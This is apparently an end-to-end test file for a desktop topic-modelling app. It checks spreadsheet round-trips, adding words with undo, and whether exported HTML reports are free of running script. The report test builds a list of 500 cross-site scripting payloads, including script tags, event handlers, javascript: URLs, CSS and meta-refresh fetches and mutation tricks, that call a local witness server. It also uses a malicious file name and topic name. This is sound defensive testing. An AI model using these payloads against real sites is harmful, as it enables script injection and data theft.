/** Files for other people: what comes back from them, what is added later, and what must not run in them. */
import assert from "node:assert/strict";
import { existsSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { browse } from "../lib/browser.mjs";
import { answerFileDialog, SAVE_TITLE } from "../lib/desktop.mjs";
import { witness } from "../lib/servers.mjs";
import { dropFile, openSample, openTab, rename, waitForTopics } from "../lib/steps.mjs";
import { until } from "../lib/until.mjs";

export const handingOn = {
  async "topics handed on in a spreadsheet come back with it"(t) {
    const app = await t.launch();
    await openSample(app, "fruit-countries-companies");
    await waitForTopics(app);
    await rename(app, 0, "=my first topic");
    const topics = await app.texts("topic-name");
    const path = await exportAs(t, app, "xlsx", "handed on.xlsx");
    await dropFile(app, path);
    await app.click("import-confirm");
    await until("the other workbook is open", async () => (await app.text("workbook-name")) === "handed on");
    await waitForTopics(app);
    assert.deepEqual((await app.texts("topic-name")).toSorted(), topics.toSorted(), "the same topics, the odd name too");
    assert.match(await app.text("status-counts"), /^9\D/, "and the same nine words");
  },

  async "words that are added later find their topics, and can be taken back"(t) {
    const app = await t.launch();
    await openSample(app, "fruit-countries-companies");
    await waitForTopics(app);
    const topics = await app.texts("topic-name");
    const path = t.home.file("more.txt");
    writeFileSync(path, "banana\npear\nKenya\n");
    await dropFile(app, path);
    await app.click("import-add");
    await until("two words are new", async () => /^11\D/.test(await app.text("status-counts")));
    await waitForTopics(app);
    assert.deepEqual(await app.texts("topic-name"), topics, "no topic changed");
    await openTab(app, "words");
    await until("pear is in the table", async () => (await app.text("words-table")).includes("pear"));
    // First that they were placed, then that they were added.
    await app.click("undo");
    await app.click("undo");
    await until("the words are gone", async () => /^9\D/.test(await app.text("status-counts")));
    assert.deepEqual(await app.texts("topic-name"), topics, "and no topic changed");
  },

  async "a report opens in a browser, where nothing in it runs or is fetched"(t) {
    const server = await witness();
    const path = t.home.file("<img src=x onerror=alert(1)>.txt");
    const words = payloads(server.host);
    writeFileSync(path, words.join("\n"));
    const app = await t.launch({ args: [path] });
    await until("the list is read", async () => (await app.has("import-confirm")) || (await app.has("workbook")));
    if (await app.has("import-confirm")) await app.click("import-confirm");
    await waitForTopics(app, { timeout: 120_000 });
    await rename(app, 0, `</title><script src="http://${server.host}/name"></script>`);
    const report = await exportAs(t, app, "report", "report.html");
    t.report("size of the report", `${Math.round(statSync(report).size / 1024)} kB`);

    const browser = await browse(report, t.home.environment);
    try {
      const page = await until("the report is there", () =>
        browser.run(() => document.readyState === "complete" && { text: document.body.innerText, elements: document.querySelectorAll("*").length, scripts: document.scripts.length }),
      );
      await new Promise((resolve) => setTimeout(resolve, 1500));
      assert.ok(words.filter((word) => page.text.includes(word)).length > 100, "the words are there to be read");
      assert.ok(page.elements > 100 && page.scripts === 0, "it is a whole page without a script");
      assert.equal(await browser.run(() => window.ran ?? null), null, "nothing ran");
      assert.deepEqual(server.seen, [], "nothing was asked for");
      const foreign = await browser.run(() => [...document.querySelectorAll("[src], [href], [srcset], [data], [action]")].map((e) => e.src ?? e.href?.baseVal ?? e.href).filter((url) => !/^data:image|^#|^file:[^#]*#/.test(url)));
      assert.deepEqual(foreign, [], "nothing points out of it");
    } finally {
      await browser.end();
      await server.stop();
    }
  },
};

/** Exports everything and hands back where to. */
async function exportAs(t, app, format, name) {
  await app.click("export");
  await app.click(`export-format-${format}`);
  await app.click("export-confirm");
  const path = t.home.file(name);
  await answerFileDialog(SAVE_TITLE, path);
  await until("the file is there", () => existsSync(path) && readFileSync(path).length > 0, { timeout: 60_000 });
  return path;
}

/** 500 texts that run something where they are not taken for texts. */
function payloads(host) {
  const calls = ["window.ran=1", `fetch('http://${host}/f')`, `import('http://${host}/i')`, `new Image().src='http://${host}/n'`, `location='http://${host}/l'`];
  const shapes = [
    (c) => `<script>${c}</script>`,
    (c) => `</script><script>${c}</script>`,
    (c) => `"><script>${c}</script>`,
    (c) => `'><img src=x onerror="${c}">`,
    (c) => `<img src=x onerror=${c}>`,
    (c) => `<svg onload="${c}">`,
    (c) => `<svg><script>${c}</script></svg>`,
    (c) => `<body onload="${c}">`,
    (c) => `<iframe srcdoc="<script>${c}</script>"></iframe>`,
    (c) => `<a href="javascript:${c}">click</a>`,
    (c) => `<details open ontoggle="${c}">`,
    (c) => `<input autofocus onfocus="${c}">`,
    (c) => `<style>*{background:url(http://${host}/s)}</style>${c}`,
    (c) => `<link rel=stylesheet href="http://${host}/c">${c}`,
    (c) => `<meta http-equiv=refresh content="0;url=http://${host}/m">${c}`,
    (c) => `<object data="data:text/html,<script>${c}</script>"></object>`,
    (c) => `<math><mtext></table><mglyph><style><img src=x onerror="${c}">`,
    (c) => `--><script>${c}</script><!--`,
    (c) => `]]><script>${c}</script>`,
    (c) => `</textarea><script>${c}</script>`,
    (c) => `" onmouseover="${c}" x="`,
    (c) => `' style='background:url(http://${host}/q)' x='${c}`,
    (c) => `&lt;script&gt;${c}&lt;/script&gt;`,
    (c) => `{{constructor.constructor("${c}")()}}`,
    (c) => `<base href="http://${host}/"><img src=b>${c}`,
  ];
  return shapes.flatMap((shape) => calls.flatMap((call) => [call, `${call};1`, `0||${call}`, `(${call})`].map((code) => shape(code))));
}
